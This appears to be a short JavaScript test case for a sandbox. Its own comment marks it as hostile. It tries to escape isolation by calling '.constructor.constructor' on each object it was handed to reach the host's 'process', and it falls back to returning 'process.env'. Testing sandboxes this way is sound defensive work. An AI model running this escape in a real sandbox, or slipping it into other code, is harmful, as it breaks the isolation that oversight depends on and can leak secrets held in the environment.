// Hostile: tries to reach a function constructor, and with it the host's process, from every object that it has.
const handed = { sleep, setTimeout, log: console.log, call: servers.files.call, promise: Promise.resolve(), realm: this };
const way = (name, thing) => {
  try {
    return `${name}: ${thing.constructor.constructor("return process")()}`;
  } catch (error) {
    console.log(`${name}: ${error.name}`);
    return null;
  }
};
const out = Object.entries(handed).map(([name, thing]) => way(name, thing ?? {})).filter((found) => found !== null);
if (out.length) return out;
return Object.constructor("return process.env")();
